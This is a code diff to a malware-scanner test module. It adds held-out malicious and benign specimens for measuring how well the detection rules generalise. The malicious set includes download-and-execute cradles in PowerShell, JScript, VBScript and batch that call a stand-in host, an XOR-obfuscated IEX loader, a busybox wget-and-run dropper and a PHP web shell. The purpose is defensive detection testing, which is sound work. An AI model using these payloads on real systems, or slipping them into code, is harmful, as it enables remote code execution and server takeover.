@@ -20,6 +20,7 @@ import io
 import zipfile
 from collections.abc import Callable
 from dataclasses import dataclass
+from pathlib import Path
 
 from tests import binaries
 from tests.officedocs import paragraph, vba_project, word_document
@@ -38,6 +39,7 @@ class Specimen:
     kind: str = "file"  # file, domain, ip, uri
     needs: str = ""  # a service another helper adds (email, html, lnk); empty when built-ins suffice
     requires: str = ""  # a tool the build needs ("osslsigncode"); skipped with a reason when missing
+    held_out: bool = False  # written after the scores were calibrated, and never used to tune them
 
 
 def text(s: str) -> Callable[[], bytes]:
@@ -392,7 +394,68 @@ BENIGN_SPECIMENS: list[Specimen] = [
     Specimen("Notepad.lnk", BENIGN, "lnk", lambda: _lnk("..\\..\\Windows\\System32\\notepad.exe", ""), needs="lnk"),
 ]
 
-SPECIMENS = MALICIOUS_SPECIMENS + BENIGN_SPECIMENS
+# -- held out --------------------------------------------------------------------------------------
+# Written after the scores were calibrated on the specimens above, and not used to tune anything:
+# the bench reports them apart, as the estimate of how the rules do on what they were not fitted to.
+H2 = "http://203.0.113.7"
+
+
+def _so_file() -> bytes:
+    import msgspec._core
+
+    return Path(msgspec._core.__file__).read_bytes()
+
+
+_HELD_OUT_MALICIOUS = [
+    ("wc_headers.ps1", "powershell", "$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0');iex $wc.DownloadString('" + H2 + "/s')\n"),
+    ("iwr_content.ps1", "powershell", "Invoke-Expression (Invoke-WebRequest -UseBasicParsing " + H2 + "/p.ps1).Content\n"),
+    ("exec_iwr.js", "javascript", 'var o = WScript.CreateObject("WScript.Shell");\no.Exec("powershell -ep bypass -w 1 -c \\"(iwr ' + H2 + '/a).Content|iex\\"");\n'),
+    ("winhttp.vbs", "vbscript", 'Set w = CreateObject("WinHttp.WinHttpRequest.5.1")\nw.Open "GET", "' + H2 + '/v.txt", False\nw.Send\nExecuteGlobal w.ResponseText\n'),
+    ("bits_ps.bat", "batch", "@echo off\npowershell -w hidden -c \"Start-BitsTransfer -Source " + H2 + "/a.exe -Destination $env:APPDATA\\a.exe; Start-Process $env:APPDATA\\a.exe\"\n"),
+    ("string_key_xor.ps1", "powershell", "$key = 'k3y'\n$enc = [Convert]::FromBase64String('"
+     + base64.b64encode(bytes(b ^ k for b, k in zip(("IEX (New-Object Net.WebClient).DownloadString('" + H2 + "/x')").encode(), b"k3y" * 100))).decode()
+     + "')\n$out = for($i=0; $i -lt $enc.Length; $i++){ $enc[$i] -bxor [byte]$key[$i % $key.Length] }\niex ([Text.Encoding]::UTF8.GetString($out))\n"),
+    ("busybox_dropper", "elf", None),
+    ("phpshell.php", "webshell", "<?php @system($_REQUEST['cmd']); ?>\n"),
+]
+_HELD_OUT_BENIGN = [
+    ("eventlog.ps1", "powershell", "Get-EventLog -LogName System -Newest 50 | Where-Object EntryType -eq 'Error' | Format-List TimeGenerated, Message\n"),
+    ("reset_wu.ps1", "powershell", "Stop-Service wuauserv -Force\nRemove-Item C:\\Windows\\SoftwareDistribution -Recurse -Force\nStart-Service wuauserv\n"),
+    ("latest_release.ps1", "powershell", "$rel = Invoke-RestMethod https://api.github.com/repos/example/tool/releases/latest\n"
+     "Invoke-WebRequest $rel.assets[0].browser_download_url -OutFile tool.zip\nExpand-Archive tool.zip -DestinationPath C:\\Tools\\\n"),
+    ("server.js", "javascript", "const express = require('express');\nconst app = express();\napp.get('/', (req, res) => res.send('Hello ' + 'World'));\napp.listen(3000);\n"),
+    ("shortcut.vbs", "vbscript", 'Set sh = CreateObject("WScript.Shell")\nSet lnk = sh.CreateShortcut(sh.SpecialFolders("Desktop") & "\\App.lnk")\n'
+     'lnk.TargetPath = "\\\\server\\apps\\app.exe"\nlnk.Save\n'),
+    ("refresh.bat", "batch", "@echo off\nnet use Z: \\\\fileserver\\share /persistent:yes\ngpupdate /force\nrobocopy \\\\fileserver\\templates C:\\Templates /E\n"),
+    ("get_node.bat", "batch", "@echo off\ncurl -L -o node.zip https://nodejs.org/dist/v20.0.0/node-v20.0.0-win-x64.zip\ntar -xf node.zip -C C:\\Tools\n"),
+    ("report_macro.docm", "office", None),
+    ("brochure.html", "html", '<html><body><img src="data:image/png;base64,' + base64.b64encode(bytes(range(256)) * 4).decode()
+     + '"><a href="https://www.example.com/brochure.pdf" download>Brochure (PDF)</a><script>console.log("loaded")</script></body></html>\n'),
+    ("support.apple.com", "domain", "support.apple.com"),
+    ("secure.bankofamerica.com", "domain", "secure.bankofamerica.com"),
+    ("_core.so", "elf", None),
+    ("blog_post.txt", "text", "How attackers stage PowerShell\n\nA typical download cradle looks like\n"
+     "IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/payload.ps1')\n"
+     "and defenders should log script blocks (event 4104) to see it.\n"),
+]
+
+
+def _held_out(rows: list, label: str) -> list[Specimen]:
+    builders = {
+        "busybox_dropper": lambda: binaries.elf(b"/bin/busybox wget " + H2.encode() + b"/bins.sh; chmod 777 bins.sh; sh bins.sh\x00", sections=False),
+        "report_macro.docm": docm("Sub OpenReports()\n    Shell \"explorer.exe C:\\Reports\", vbNormalFocus\nEnd Sub\n", "Monthly report"),
+        "_core.so": _so_file,
+    }
+    specimens = []
+    for name, fmt, content in rows:
+        kind = "domain" if fmt == "domain" else "file"
+        specimens.append(Specimen(name, label, fmt, builders.get(name) or text(content), kind=kind, held_out=True))
+    return specimens
+
+
+HELD_OUT = _held_out(_HELD_OUT_MALICIOUS, MALICIOUS) + _held_out(_HELD_OUT_BENIGN, BENIGN)
+
+SPECIMENS = MALICIOUS_SPECIMENS + BENIGN_SPECIMENS + HELD_OUT
 
 
 # -- scanning and scoring ----------------------------------------------------------------------
